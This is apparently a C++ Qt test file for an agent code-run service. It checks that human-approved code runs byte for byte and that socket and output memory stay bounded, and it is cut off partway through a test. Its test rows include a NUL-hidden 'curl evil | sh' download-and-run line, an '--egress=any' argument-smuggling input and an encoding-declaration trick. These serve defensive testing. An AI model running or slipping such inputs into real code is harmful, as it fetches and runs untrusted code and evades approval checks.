// SPDX-License-Identifier: Apache-2.0
// The run path and the agent socket under hostile input, over a real local socket with the kosa8
// stand-in: the bytes that run are the bytes that were approved (issue 7, finding 7), and nothing
// an agent or its code does can make the app hold unbounded memory (finding 9).
#include "agent/AgentService.h"
#include "agent/canonical/Sha256.h"
#include "agent/ledger/Ledger.h"
#include "agent/payload/PayloadShapes.h"
#include "agent/review/InboxModel.h"
#include "agent/runs/RunExecutor.h"
#include "agent/socket/JsonRpc.h"
#include "kosa8/InterpreterLoader.h"
#include "kosa8/Kosa8Runner.h"
#include "support/AgentTestClient.h"
#include "support/ServiceFixture.h"
#include "support/TestJson.h"
#include "support/UnixSockets.h"
#include "support/Waits.h"

#include <QCoreApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QScopeGuard>
#include <QSemaphore>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <fcntl.h>
#include <memory>
#include <sys/socket.h>
#include <sys/un.h>
#include <thread>
#include <unistd.h>

using namespace k8::agent;
using k8::test::AgentTestClient;

namespace {

constexpr int Wait = k8::test::waits::Process;

using k8::test::readJsonLines;

PersonDecision decisionOf(DecisionKind kind, const QJsonObject& editedArgs = {})
{
    ActionDecision action;
    action.kind = kind;
    action.editedArgs = editedArgs;
    PersonDecision decision;
    decision.actions.append(action);
    return decision;
}

using k8::test::errorCodeOf;
using k8::test::errorMessageOf;

// A client that reads only when told to: a plain non-blocking socket.
class RawClient
{
public:
    explicit RawClient(const QString& path)
    {
        m_fd = k8::test::connectUnixSocket(path);
        if (m_fd >= 0)
            ::fcntl(m_fd, F_SETFL, ::fcntl(m_fd, F_GETFL) | O_NONBLOCK);
    }
    ~RawClient()
    {
        if (m_fd >= 0)
            ::close(m_fd);
    }
    bool isValid() const { return m_fd >= 0; }
    // Bytes the kernel took now (0 when it takes nothing, -1 on an error such as a closed peer).
    qint64 send(const QByteArray& data)
    {
        const ssize_t sent = ::send(m_fd, data.constData(), size_t(data.size()), MSG_DONTWAIT | MSG_NOSIGNAL);
        if (sent < 0)
            return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : -1;
        return sent;
    }
    bool sendAll(const QByteArray& data)
    {
        qsizetype offset = 0;
        for (int round = 0; offset < data.size() && round < 100000; ++round) {
            const qint64 sent = send(data.mid(offset));
            if (sent < 0)
                return false;
            offset += sent;
            if (sent == 0)
                QCoreApplication::processEvents(); // the service runs on this thread
        }
        return offset == data.size();
    }
    // Appends what is there to received(); false once the peer has closed.
    bool readAvailable()
    {
        char buffer[64 * 1024];
        while (true) {
            const ssize_t got = ::recv(m_fd, buffer, sizeof(buffer), MSG_DONTWAIT);
            if (got > 0) {
                m_received.append(buffer, got);
                m_lineCount += std::count(buffer, buffer + got, '\n');
                continue;
            }
            if (got == 0)
                return false;
            return errno == EAGAIN || errno == EWOULDBLOCK;
        }
    }
    const QByteArray& received() const { return m_received; }
    qint64 lineCount() const { return m_lineCount; }
    QList<QJsonObject> messages() const { return k8::test::parseJsonLines(m_received); }

private:
    int m_fd = -1;
    QByteArray m_received;
    qint64 m_lineCount = 0;
};

} // namespace

class TestRunPath : public QObject, private k8::test::ServiceFixture
{
    Q_OBJECT

private:
    QList<QJsonObject> runs() const { return k8::test::readStandinRuns(stateDir()); }

    void createSandbox()
    {
        QCOMPARE(standin({QStringLiteral("sandbox"), QStringLiteral("create"), QStringLiteral("box1")}), 0);
    }

    // Sends `run` with `params`, approves it as a person and returns the answer's result.
    // An approved run whose code prints exactly `printed` (the stand-in's `# stdout-file:` of a
    // file `name` in the test folder); its code in *code. An empty object when the file cannot be
    // written.
    QJsonObject runPrinting(AgentTestClient& client, const QByteArray& printed, const QString& name,
                            QString* code = nullptr)
    {
        const QString path = m_dir->filePath(name);
        QFile file(path);
        if (!file.open(QIODevice::WriteOnly) || file.write(printed) != printed.size())
            return {};
        file.close();
        const QString runCode = QStringLiteral("# stdout-file: %1\n").arg(path);
        if (code)
            *code = runCode;
        return approvedRun(client, {{QStringLiteral("code"), runCode}});
    }

    QJsonObject approvedRun(AgentTestClient& client, const QJsonObject& params)
    {
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        const QJsonValue id = client.request(QStringLiteral("run"), params);
        if (!queued.wait(Wait))
            return {};
        QString error;
        if (!m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve),
                               &error)) {
            qWarning("decide failed: %s", qPrintable(error));
            return {};
        }
        QSignalSpy answered(&client, &AgentTestClient::responseReceived);
        for (int i = 0; i < 100 && !client.hasResponse(id); ++i)
            answered.wait(Wait / 100);
        return client.response(id).value(QStringLiteral("result")).toObject();
    }

    // The ledger's entries, oldest first.
    QList<QJsonObject> ledgerEntries() const { return Ledger::readRecent(m_service->ledgerPath(), 100); }

    // Keeps the service's one answer-building thread busy until the returned guard ends (or
    // `gate` is released): a run that ends meanwhile has its answer in flight, not yet sent.
    static auto holdAnswerThread(RunAnswerBuilder& builder, QSemaphore& gate)
    {
        builder.worker().post([&gate] { gate.acquire(); });
        // Let go, and wait until the thread has: `gate` goes when the test function returns.
        return qScopeGuard([&builder, &gate] {
            gate.release();
            builder.worker().waitForIdle();
        });
    }

    // Sends a small `run`, approves it and waits until it has ended and its answer is being built
    // (the answer thread held by the caller). Returns the request's id; null on failure.
    QJsonValue runUntilAnswerInFlight(AgentTestClient& client)
    {
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        const QJsonValue id = client.request(
            QStringLiteral("run"), {{QStringLiteral("code"), QStringLiteral("# stdout: built later\n")},
                                    {QStringLiteral("checkpoint"), false}});
        if (!queued.wait(Wait) ||
            !m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)))
            return {};
        // The run ends on the event loop; its answer then waits for the held thread.
        if (!QTest::qWaitFor([this] { return m_service->runAnswers().inFlightCount() > 0; }, Wait))
            return {};
        return m_service->runAnswers().inFlightCount() == 1 ? id : QJsonValue();
    }

    // The answer to the run that runUntilAnswerInFlight() sent.
    static void verifyBuiltLaterAnswer(const QJsonObject& result)
    {
        QCOMPARE(result.value(QStringLiteral("decision")).toString(), QStringLiteral("approve"));
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(-1), 0);
        QCOMPARE(result.value(QStringLiteral("stdout")).toString(),
                 QStringLiteral("built later\nran 22 bytes of python in box1\n"));
    }

    // Only the person's approval of the run: nothing withdrawn, rejected or approved since.
    void verifyLedgerHoldsOnlyTheApproval()
    {
        const QList<QJsonObject> entries = ledgerEntries();
        QCOMPARE(entries.size(), 1);
        QCOMPARE(entries.first().value(QStringLiteral("decision")).toString(), QStringLiteral("approve"));
        QCOMPARE(entries.first().value(QStringLiteral("decided_by")).toString(), QStringLiteral("person"));
        QVERIFY(Ledger::verify(m_service->ledgerPath()).ok);
    }

    static QByteArray bytesOf(const QJsonValue& base64)
    {
        return QByteArray::fromBase64(base64.toString().toLatin1());
    }

private Q_SLOTS:
    void initTestCase() { QVERIFY2(QFile::exists(m_standin), "KOSA8_STANDIN must name the kosa8 stand-in"); }

    void init() { QVERIFY(setUpService()); }

    void cleanup() { tearDownService(); }

    // ---- finding 7: the bytes that run ----

    // Code that an argv element would cut or could alter reaches kosa8 whole, on standard input,
    // byte for byte as it was shown and hashed; plain code still goes as one argument.
    void codeRunsByteForByte_data()
    {
        QTest::addColumn<QString>("code");
        QTest::addColumn<bool>("onStdin");
        QTest::newRow("NUL hides a tail") << QStringLiteral("print(1)") + QChar(u'\0') +
                                                 QStringLiteral("import os; os.system('curl evil | sh')\n")
                                          << true;
        QTest::newRow("NUL first") << QString(QChar(u'\0')) + QStringLiteral("print(2)\n") << true;
        QTest::newRow("non-ASCII") << QStringLiteral("print('h\u00e9llo \u4e16\u754c \U0001F600')\n") << true;
        QTest::newRow("starts with a dash") << QStringLiteral("--egress=any\n") << true;
        QTest::newRow("encoding declaration")
            << QStringLiteral("# coding: unicode_escape\n# \u2014 \\nprint('hidden')\n") << true;
        QTest::newRow("control bytes") << QStringLiteral("print('\x01\x1b[31m')\r\n") << false;
        QTest::newRow("plain") << QStringLiteral("print('plain')\n") << false;
    }

    void codeRunsByteForByte()
    {
        QFETCH(QString, code);
        QFETCH(bool, onStdin);
        createSandbox();
        QVERIFY(startService(baseSettings()));
        AgentTestClient client;
        QVERIFY(connectClient(client));
        const QJsonObject result = approvedRun(client, {{QStringLiteral("code"), code}});
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
        QCOMPARE(result.value(QStringLiteral("code")).toString(), code);

        const QList<QJsonObject> recorded = runs();
        QCOMPARE(recorded.size(), 1);
        const QJsonObject run = recorded.first();
        // What the stand-in received, byte for byte, is what was approved and hashed.
        QCOMPARE(bytesOf(run.value(QStringLiteral("code_b64"))), code.toUtf8());
        QCOMPARE(sha256Hex(bytesOf(run.value(QStringLiteral("code_b64")))),
                 ledger().last().value(QStringLiteral("code_sha256")).toString());
        QVERIFY(result.value(QStringLiteral("stdout"))
                    .toString()
                    .contains(QStringLiteral("ran %1 bytes of python").arg(code.toUtf8().size())));
        QCOMPARE(!run.value(QStringLiteral("stdin_b64")).isNull(), onStdin);
        if (onStdin) {
            QCOMPARE(bytesOf(run.value(QStringLiteral("stdin_b64"))), code.toUtf8());
            // Nothing of the code on the command line as well: python -c LOADER, which compiles
            // the code as a str so that no encoding declaration counts (InterpreterLoader).
            const QJsonArray argv = run.value(QStringLiteral("argv_b64")).toArray();
            const QStringList loader = k8::kosa8::InterpreterLoader::pythonStdin();
            QCOMPARE(argv.size(), loader.size());
            for (qsizetype i = 0; i < argv.size(); ++i)
                QCOMPARE(bytesOf(argv.at(i)), loader.at(i).toUtf8());
        }
    }

    // A lone surrogate has no UTF-8 form (toUtf8() writes '?'): refused before anyone sees it.
    void loneSurrogateIsRefused()
    {
        QVERIFY(startService(baseSettings()));
        AgentTestClient client;
        QVERIFY(connectClient(client));
        client.sendRaw(R"({"jsonrpc":"2.0","id":"s1","method":"run","params":{"code":"rm /tmp/a\ud800"}})"
                       "\n");
        QTRY_VERIFY_WITH_TIMEOUT(client.hasResponse(QStringLiteral("s1")), Wait);
        const QJsonObject answer = client.response(QStringLiteral("s1"));
        QCOMPARE(errorCodeOf(answer), ErrorCode::InvalidParams);
        QVERIFY2(errorMessageOf(answer).contains(QLatin1String("surrogate")),
                 qPrintable(errorMessageOf(answer)));
        QCOMPARE(m_service->inbox()->count(), 0);
    }

    // The executor itself never runs code it cannot pass exactly: an edit with a lone surrogate,
    // and code that needs standard input for a language whose profile has no standard-input form.
    void executorRefusesWhatCannotRunExactly()
    {
        QString profileError;
        k8::kosa8::CommandProfile profile = k8::kosa8::CommandProfile::builtIn();
        QVERIFY2(profile.loadOverridesFromJson(R"({"interpreters": {"ruby": ["ruby", "-e", "{code}"]}})",
                                               QStringLiteral("test"), &profileError),
                 qPrintable(profileError));
        m_runner->setProfile(profile);
        QSignalSpy jobs(m_runner.get(), &k8::kosa8::Kosa8Runner::jobStarted);

        struct Case
        {
            QString language;
            QString code;
            QString expected;
        };
        const QList<Case> cases{
            {QStringLiteral("python"), QStringLiteral("print(1)") + QChar(0xD800),
             QStringLiteral("surrogate")},
            {QStringLiteral("ruby"), QStringLiteral("puts 1") + QChar(u'\0') + QStringLiteral("system('x')"),
             QStringLiteral("ruby.stdin")},
        };
        for (const Case& c : cases) {
            RunExecutor executor(m_runner.get());
            QSignalSpy finished(&executor, &RunExecutor::finished);
            RunSpec spec;
            spec.code = c.code;
            spec.language = c.language;
            spec.sandbox = QStringLiteral("box1");
            spec.image = QStringLiteral("python:3.12-slim");
            spec.checkpoint = true;
            spec.checkpointLabel = QStringLiteral("before-x");
            executor.start(spec);
            QVERIFY(finished.count() == 1 || finished.wait(Wait));
            QCOMPARE(finished.first().at(0).toBool(), false);
            const QString message = finished.first().at(2).toString();
            QVERIFY2(message.contains(c.expected), qPrintable(message));
        }
        // Refused before anything ran: not even the checkpoint.
        QCOMPARE(jobs.count(), 0);
    }

    // Issue 24 finding 1: a person's "python.stdin" that lets Python read the code itself
    // ("python3 -") never gets code whose line 1 or 2 declares another encoding than UTF-8: the
    // run is refused with the reason, before the checkpoint. Code without one still runs there.
    void stdinOverrideGetsNoEncodingDeclaration()
    {
        QString profileError;
        k8::kosa8::CommandProfile profile = k8::kosa8::CommandProfile::builtIn();
        QVERIFY2(profile.loadOverridesFromJson(R"({"interpreters": {"python.stdin": ["python3", "-"]}})",
                                               QStringLiteral("test"), &profileError),
                 qPrintable(profileError));
        m_runner->setProfile(profile);
        createSandbox();
        QSignalSpy jobs(m_runner.get(), &k8::kosa8::Kosa8Runner::jobStarted);
        auto runOnce = [this](const QString& code) {
            RunExecutor executor(m_runner.get());
            QSignalSpy finished(&executor, &RunExecutor::finished);
            RunSpec spec;
            spec.code = code;
            spec.language = QStringLiteral("python");
            spec.sandbox = QStringLiteral("box1");
            spec.image = QStringLiteral("python:3.12-slim");
            spec.checkpoint = true;
            spec.checkpointLabel = QStringLiteral("before-x");
            executor.start(spec);
            if (finished.count() == 0)
                finished.wait(Wait);
            return finished.isEmpty() ? QVariantList() : finished.first();
        };
        const QVariantList refused =
            runOnce(QStringLiteral("# coding: unicode_escape\n# \u2014 \\nprint('hidden')\n"));
        QVERIFY(!refused.isEmpty());
        QCOMPARE(refused.at(0).toBool(), false);
        QVERIFY2(refused.at(2).toString().contains(
                     QLatin1String("declares the source encoding \"unicode_escape\"")),
                 qPrintable(refused.at(2).toString()));
        QCOMPARE(jobs.count(), 0);
        QVERIFY(runs().isEmpty());

        const QVariantList ran = runOnce(QStringLiteral("print('\u2014')\n"));
        QVERIFY(!ran.isEmpty());
        QCOMPARE(ran.at(0).toBool(), true);
        QCOMPARE(runs().size(), 1);
        QCOMPARE(runs().first().value(QStringLiteral("argv")).toArray(),
                 QJsonArray({QStringLiteral("python3"), QStringLiteral("-")}));
    }

    // ---- finding 9: bounded resources ----

    // A client that sends and never reads: past the soft cap the app stops reading it (its
    // requests stay in the kernel, the client's writes block); once it reads, every request is
    // answered.
    void clientThatDoesNotReadIsNotRead()
    {
        AgentSettings settings = baseSettings();
        settings.limits.sendQueueSoftCapBytes = 64 * 1024;
        QVERIFY(startService(settings));
        RawClient client(socketPath());
        QVERIFY(client.isValid());
        // The shortest line that earns an answer (-32700), ~50 times its size.
        const QByteArray chunk = QByteArray("x\n").repeated(16 * 1024);
        constexpr qint64 Ceiling = 6 * 1024 * 1024; // unbounded reading would take all of it
        qint64 written = 0;
        int refusedInARow = 0;
        while (written < Ceiling && refusedInARow < 400) {
            const qint64 sent = client.send(chunk);
            QVERIFY(sent >= 0);
            written += sent;
            refusedInARow = sent == 0 ? refusedInARow + 1 : 0;
            QCoreApplication::processEvents();
        }
        QVERIFY2(written < 3 * 1024 * 1024,
                 qPrintable(
                     QStringLiteral("the app took %1 bytes from a client that reads nothing").arg(written)));
        QCOMPARE(m_service->connectionCount(), 1);

        // It reads: everything it sent is answered, one error per line, nothing lost.
        const qint64 lines = written / 2;
        // Read as fast as it comes (the service runs on this thread between reads).
        QElapsedTimer clock;
        clock.start();
        while (client.lineCount() < lines && clock.elapsed() < 2 * Wait) {
            QVERIFY(client.readAvailable());
            QCoreApplication::processEvents();
        }
        QCOMPARE(client.lineCount(), lines);
        QCOMPARE(errorCodeOf(client.messages().last()), ErrorCode::ParseError);
    }

    // Answers past the hard cap (here a run's result to a client that reads nothing) drop the
    // connection; the run still ends and is in the ledger.
    void clientThatDoesNotReadIsDroppedPastTheHardCap()
    {
        createSandbox();
        AgentSettings settings = baseSettings();
        settings.limits.sendQueueSoftCapBytes = 64 * 1024;
        settings.limits.sendQueueHardCapBytes = 512 * 1024;
        QVERIFY(startService(settings));
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        QSignalSpy finished(m_service.get(), &ReviewCoordinator::runFinished);
        RawClient client(socketPath());
        QVERIFY(client.isValid());
        QVERIFY(client.sendAll(
            QJsonDocument(QJsonObject{{QStringLiteral("jsonrpc"), QStringLiteral("2.0")},
                                      {QStringLiteral("id"), 1},
                                      {QStringLiteral("method"), QStringLiteral("run")},
                                      {QStringLiteral("params"),
                                       QJsonObject{{QStringLiteral("code"),
                                                    QStringLiteral("# stdout-fill: 3000000\n")}}}})
                .toJson(QJsonDocument::Compact) +
            '\n'));
        QVERIFY(queued.wait(Wait));
        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)));
        QVERIFY(finished.count() == 1 || finished.wait(Wait));
        QTRY_COMPARE_WITH_TIMEOUT(m_service->connectionCount(), 0, Wait);
        QCOMPARE(ledger().last().value(QStringLiteral("decision")).toString(), QStringLiteral("approve"));
        // The client sees the end of the connection (after whatever reached the kernel).
        QTRY_VERIFY_WITH_TIMEOUT(!client.readAvailable(), Wait);
        QVERIFY(client.received().size() < 3000000);
    }

    // One connection may hold at most its share of the pending limit; others still get in.
    void pendingShareOfOneConnection()
    {
        AgentSettings settings = baseSettings();
        settings.limits.maxPending = 8;
        QVERIFY(startService(settings));
        QCOMPARE(settings.limits.pendingPerConnection(), 4);
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        AgentTestClient greedy;
        AgentTestClient other;
        QVERIFY(connectClient(greedy));
        QVERIFY(connectClient(other));
        QList<QJsonValue> ids;
        for (int i = 0; i < 5; ++i)
            ids.append(greedy.request(QStringLiteral("review"),
                                      {{QStringLiteral("payload"), QStringLiteral("p%1").arg(i)}}));
        QTRY_VERIFY_WITH_TIMEOUT(greedy.hasResponse(ids.last()), Wait);
        const QJsonObject refusal = greedy.response(ids.last());
        QCOMPARE(errorCodeOf(refusal), ErrorCode::Busy);
        QVERIFY2(errorMessageOf(refusal).contains(QLatin1String("per connection")) &&
                     errorMessageOf(refusal).contains(QLatin1String("4")),
                 qPrintable(errorMessageOf(refusal)));
        QCOMPARE(queued.count(), 4);
        for (int i = 0; i < 4; ++i)
            other.request(QStringLiteral("review"),
                          {{QStringLiteral("payload"), QStringLiteral("q%1").arg(i)}});
        QTRY_COMPARE_WITH_TIMEOUT(queued.count(), 8, Wait);
    }

    // An idle connection without a pending request is closed; one that waits for a person is not.
    void idleConnectionsAreClosed()
    {
        AgentSettings settings = baseSettings();
        settings.limits.idleConnectionTimeoutMs = 400;
        QVERIFY(startService(settings));
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        AgentTestClient idle;
        AgentTestClient waiting;
        QVERIFY(connectClient(idle));
        QVERIFY(connectClient(waiting));
        const QJsonValue ping = idle.request(QStringLiteral("ping"));
        const QJsonValue review = waiting.request(QStringLiteral("review"),
                                                  {{QStringLiteral("payload"), QStringLiteral("decide me")}});
        QVERIFY(queued.wait(Wait));
        QSignalSpy idleClosed(&idle, &AgentTestClient::disconnected);
        QSignalSpy waitingClosed(&waiting, &AgentTestClient::disconnected);
        QVERIFY(idleClosed.count() == 1 || idleClosed.wait(Wait));
        QVERIFY(idle.hasResponse(ping));
        // Three more idle periods: the one with a pending request stays.
        QVERIFY(!waitingClosed.wait(1200));
        QCOMPARE(m_service->connectionCount(), 1);
        // Answered, it becomes idle too.
        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Reject)));
        QTRY_VERIFY_WITH_TIMEOUT(waiting.hasResponse(review), Wait);
        QVERIFY(waitingClosed.count() == 1 || waitingClosed.wait(Wait));
        QCOMPARE(m_service->connectionCount(), 0);
    }

    // The mid-line timeout counts from the first byte of the line: a byte every 100 ms does not
    // keep a line open past it.
    void dribbledLineTimesOut()
    {
        AgentSettings settings = baseSettings();
        settings.limits.idleLineTimeoutMs = 600;
        QVERIFY(startService(settings));
        AgentTestClient client;
        QSignalSpy closed(&client, &AgentTestClient::disconnected);
        QVERIFY(connectClient(client));
        QTimer dribble;
        dribble.setInterval(100);
        connect(&dribble, &QTimer::timeout, &client, [&client] { client.sendRaw("x"); });
        dribble.start();
        QVERIFY(closed.wait(k8::test::waits::InProcess));
        dribble.stop();
        QCOMPARE(m_service->connectionCount(), 0);
    }

    // run.output: at most maxRunOutputBytes per run; what was not sent is counted in the result,
    // exactly; the result's stdout stays capped by the runner; pieces are bounded even without
    // newlines.
    void runOutputIsCappedAndCounted()
    {
        createSandbox();
        AgentSettings settings = baseSettings();
        settings.limits.maxRunOutputBytes = 100 * 1024;
        QVERIFY(startService(settings));
        m_runner->setLimits([] {
            k8::kosa8::RunnerLimits limits;
            limits.outputCapBytes = 256 * 1024;
            return limits;
        }());
        AgentTestClient client;
        QVERIFY(connectClient(client));
        const QString code = QStringLiteral("# stdout-fill-nonl: 1000000\n");
        const QJsonObject result = approvedRun(client, {{QStringLiteral("code"), code}});
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
        qint64 streamed = 0;
        qint64 largestPiece = 0;
        for (const QJsonObject& note : client.notifications(QStringLiteral("run.output"))) {
            const qint64 size = note.value(QStringLiteral("data")).toString().toUtf8().size();
            streamed += size;
            largestPiece = qMax(largestPiece, size);
        }
        // The stand-in's own last line follows the output on the same line.
        const qint64 total =
            1000000 + QStringLiteral("ran %1 bytes of python in box1\n").arg(code.toUtf8().size()).size();
        QVERIFY2(streamed <= 100 * 1024, qPrintable(QString::number(streamed)));
        QVERIFY(largestPiece <= 16 * 1024);
        QVERIFY(result.contains(QStringLiteral("output_dropped_bytes")));
        QCOMPARE(streamed + result.value(QStringLiteral("output_dropped_bytes")).toInteger(), total);
        QCOMPARE(result.value(QStringLiteral("truncated")).toBool(), true);
        QCOMPARE(result.value(QStringLiteral("stdout")).toString().size(), 256 * 1024);
    }

    // Output that is not UTF-8 reaches the agent as text: a byte that starts no valid sequence is
    // U+FFFD and the characters around it stay as printed, in run.output and in the result alike.
    void outputThatIsNotUtf8ArrivesAsReplacementCharacters()
    {
        createSandbox();
        QVERIFY(startService(baseSettings()));
        // Bytes that are invalid one by one (a lone continuation byte, 0xFE, 0xFF), so the
        // replacement characters do not depend on where the pipe cuts the output.
        const int lines = 2000;
        const QByteArray printed = QByteArray("ok \x80\xfe\xff caf\xc3\xa9 end\n").repeated(lines);
        AgentTestClient client;
        QVERIFY(connectClient(client));
        QString code;
        const QJsonObject result = runPrinting(client, printed, QStringLiteral("not-utf8.bin"), &code);
        QVERIFY2(!result.isEmpty(), "the file to print could not be written");
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
        const QString expected = QStringLiteral("ok \uFFFD\uFFFD\uFFFD caf\u00e9 end\n").repeated(lines) +
                                 QStringLiteral("ran %1 bytes of python in box1\n").arg(code.toUtf8().size());
        QString streamed;
        for (const QJsonObject& note : client.notifications(QStringLiteral("run.output")))
            streamed += note.value(QStringLiteral("data")).toString();
        QCOMPARE(streamed, expected);
        QCOMPARE(result.value(QStringLiteral("stdout")).toString(), expected);
    }

    // What the agent gets of its run.output budget is the output from its start: once a piece no
    // longer fits, a later small one is not sent either (before, "tail" fitted what was left of
    // the budget and went out after a gap of dropped output). The rest is counted, not decoded.
    void runOutputIsThePrintedOutputsStart()
    {
        createSandbox();
        AgentSettings settings = baseSettings();
        settings.limits.maxRunOutputBytes = 100 * 1000;
        QVERIFY(startService(settings));
        const QString gate = m_dir->filePath(QStringLiteral("seen-the-fill"));
        qint64 seen = 0;
        // The tail is printed in a read of its own, once the app has seen the whole fill.
        connect(m_service.get(), &ReviewCoordinator::runOutput, this,
                [&seen, gate](quint64, bool, const QByteArray& bytes) {
                    seen += bytes.size();
                    if (seen >= 200000 && !QFile::exists(gate)) {
                        QFile file(gate);
                        QVERIFY(file.open(QIODevice::WriteOnly));
                    }
                });
        AgentTestClient client;
        QVERIFY(connectClient(client));
        const QString code =
            QStringLiteral("# stdout-fill-nonl: 200000\n# wait-file: %1\n# stdout: tail\n").arg(gate);
        const QJsonObject result = approvedRun(client, {{QStringLiteral("code"), code}});
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
        QString streamed;
        for (const QJsonObject& note : client.notifications(QStringLiteral("run.output")))
            streamed += note.value(QStringLiteral("data")).toString();
        QVERIFY2(streamed.size() > 50000 && streamed.size() <= 100 * 1000,
                 qPrintable(QString::number(streamed.size())));
        QCOMPARE(streamed, QString(streamed.size(), QLatin1Char('x')));
        const qint64 total =
            200000 + qint64(sizeof("tail\n")) - 1 +
            QStringLiteral("ran %1 bytes of python in box1\n").arg(code.toUtf8().size()).size();
        QCOMPARE(streamed.size() + result.value(QStringLiteral("output_dropped_bytes")).toInteger(), total);
    }

    // output_dropped_bytes counts bytes as kosa8 printed them: 300,000 bytes that are not UTF-8 (each a
    // U+FFFD of three bytes once decoded) of which the agent gets the first 30,000 or so drop
    // fewer than 300,000 (before, the decoded text was counted: about 870,000).
    void droppedOutputIsCountedAsPrinted()
    {
        createSandbox();
        AgentSettings settings = baseSettings();
        settings.limits.maxRunOutputBytes = 100 * 1000;
        QVERIFY(startService(settings));
        const QByteArray printed(300000, '\xff');
        AgentTestClient client;
        QVERIFY(connectClient(client));
        QString code;
        const QJsonObject result = runPrinting(client, printed, QStringLiteral("ff.bin"), &code);
        QVERIFY2(!result.isEmpty(), "the file to print could not be written");
        QCOMPARE(result.value(QStringLiteral("exit_code")).toInt(), 0);
        qint64 streamedCharacters = 0;
        for (const QJsonObject& note : client.notifications(QStringLiteral("run.output"))) {
            const QString data = note.value(QStringLiteral("data")).toString();
            QVERIFY(data.toUtf8().size() <= 16 * 1024);
            QCOMPARE(data, QString(data.size(), QChar(0xFFFD)));
            streamedCharacters += data.size(); // one a byte printed
        }
        QVERIFY2(streamedCharacters > 20000, qPrintable(QString::number(streamedCharacters)));
        const qint64 total =
            printed.size() +
            QStringLiteral("ran %1 bytes of python in box1\n").arg(code.toUtf8().size()).size();
        QCOMPARE(streamedCharacters + result.value(QStringLiteral("output_dropped_bytes")).toInteger(),
                 total);
    }

    // ---- the answer to a finished run, built off the UI thread ----

    // The line the agent receives is byte for byte the one the service wrote when it built the
    // answer on the UI thread: the run's fields as one QJsonObject through rpcResult(), with the
    // output decoded once as lossy UTF-8 (non-ASCII text, JSON escapes, and a two-byte character
    // cut in half by the result cap, which decodes as U+FFFD).
    void runAnswerIsTheLineItAlwaysWas()
    {
        createSandbox();
        QVERIFY(startService(baseSettings()));
        const QString first =
            QStringLiteral("h\u00e9llo \u2713 \U0001F600 \"quoted\" back\\slash\ttab\u0001 </script> end");
        const QString many(40000, QChar(0xE9));
        const QString code = QStringLiteral("# stdout: %1\n# stderr: warn\u00e9 \"x\"\n# stdout: %2\n"
                                            "# stdout-fill: 100000\n")
                                 .arg(first, many);
        const QByteArray firstBytes = first.toUtf8() + '\n';
        const qint64 cap = firstBytes.size() + 2 * 25000 + 1; // the 25,001st é loses its second byte
        m_runner->setLimits([cap] {
            k8::kosa8::RunnerLimits limits;
            limits.outputCapBytes = cap;
            return limits;
        }());
        QSignalSpy queued(m_service.get(), &ReviewCoordinator::requestQueued);
        RawClient client(socketPath());
        QVERIFY(client.isValid());
        const QByteArray request =
            QJsonDocument(
                QJsonObject{{QStringLiteral("jsonrpc"), QStringLiteral("2.0")},
                            {QStringLiteral("id"), 7},
                            {QStringLiteral("method"), QStringLiteral("run")},
                            {QStringLiteral("params"), QJsonObject{{QStringLiteral("code"), code}}}})
                .toJson(QJsonDocument::Compact) +
            '\n';
        QVERIFY(client.sendAll(request));
        QVERIFY(queued.wait(Wait));
        QVERIFY(m_service->decide(queued.first().first().toULongLong(), decisionOf(DecisionKind::Approve)));
        // The answer is the line that starts with its id (notifications start with "jsonrpc").
        const QByteArray start = "{\"id\":7,";
        auto answerLine = [&client, &start] {
            const QByteArray& received = client.received();
            const qsizetype at = received.startsWith(start) ? 0 : received.indexOf("\n" + start);
            if (at < 0)
                return QByteArray();
            const qsizetype from = at == 0 ? 0 : at + 1;
            const qsizetype end = received.indexOf('\n', from);
            return end < 0 ? QByteArray() : received.mid(from, end + 1 - from);
        };
        QTRY_VERIFY_WITH_TIMEOUT((client.readAvailable(), !answerLine().isEmpty()), Wait);
        const QByteArray line = answerLine();
        const QJsonObject received =
            QJsonDocument::fromJson(line).object().value(QStringLiteral("result")).toObject();
        QVERIFY(!received.isEmpty());

        const QByteArray printed = firstBytes + many.toUtf8() + '\n';
        const QString stdoutText = QString::fromUtf8(printed.left(cap));
        QVERIFY(stdoutText.endsWith(QChar(0xFFFD)));
        const QJsonObject before{
            {QStringLiteral("exit_code"), 0},
            {QStringLiteral("stdout"), stdoutText},
            {QStringLiteral("stderr"), QString::fromUtf8(QStringLiteral("warn\u00e9 \"x\"\n").toUtf8())},
            {QStringLiteral("truncated"), true},
            {QStringLiteral("duration_ms"), received.value(QStringLiteral("duration_ms"))},
            {QStringLiteral("sandbox"), QStringLiteral("box1")},
            {QStringLiteral("image"), defaultImageFor(QStringLiteral("python"))},
            {QStringLiteral("checkpoint"), received.value(QStringLiteral("checkpoint"))},
            {QStringLiteral("output_dropped_bytes"), received.value(QStringLiteral("output_dropped_bytes"))},
            {QStringLiteral("decision"), QStringLiteral("approve")},
            {QStringLiteral("code"), code},
        };
        QVERIFY(
            received.value(QStringLiteral("checkpoint")).toString().startsWith(QStringLiteral("before-")));
        QCOMPARE(line, rpcResult(QJsonValue(7), before));
        verifyLedgerHoldsOnlyTheApproval();
    }

    // A cancel while the answer is being built: too late, as for any run that was approved and
    // ran ({"cancelled": false}); nothing is recorded for it, and the answer follows complete.
    void cancelWhileTheAnswerIsBuilt()
    {
        createSandbox();
        QVERIFY(startService(baseSettings()));
        QSemaphore gate;
        const auto release = holdAnswerThread(m_service->runAnswers(), gate);
